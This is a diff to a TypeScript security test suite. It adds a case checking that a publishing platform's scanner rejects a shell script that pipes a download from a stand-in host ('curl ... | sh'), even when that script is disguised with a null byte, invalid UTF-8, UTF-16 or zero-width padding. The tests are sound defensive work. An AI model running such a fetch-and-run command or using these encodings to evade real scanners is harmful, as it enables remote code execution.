@@ -52,6 +52,30 @@ async function holdRefused(alice: Person, bytes: Buffer): Promise<void> {
 
 export const archives: Attack[] = [
   {
+    name: 'a script that a shell reads is scanned, however it is written',
+    clause: CLAUSE,
+    needs: ['accounts'],
+    async run(target) {
+      const alice = await target.member('alice')
+      const script = '#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n'
+      const written: [why: string, data: Buffer][] = [
+        ['a zero byte', Buffer.from(`${script}\0\n`)],
+        ['a byte that is no UTF-8', Buffer.concat([Buffer.from(script), Buffer.from([0xff, 10])])],
+        ['UTF-16', Buffer.from(`\ufeff${script}`, 'utf16le')],
+        ['many notes before it', Buffer.from(`${'a\u200bb\n'.repeat(200)}${script}`)],
+      ]
+      return holdEach(
+        written,
+        ([why]) => why,
+        async ([, data]) => {
+          const content = automation([{ name: 'run.sh', data }], 'harbor-scan')
+          const reply = await publish(alice, { kind: 'automation', content, fields: { stop_for: 'severe' } })
+          hold(reply.status === 409, shown(reply))
+        },
+      )
+    },
+  },
+  {
     name: 'names that mean the same entry, or another than they show, are refused',
     clause: CLAUSE,
     needs: ['accounts'],
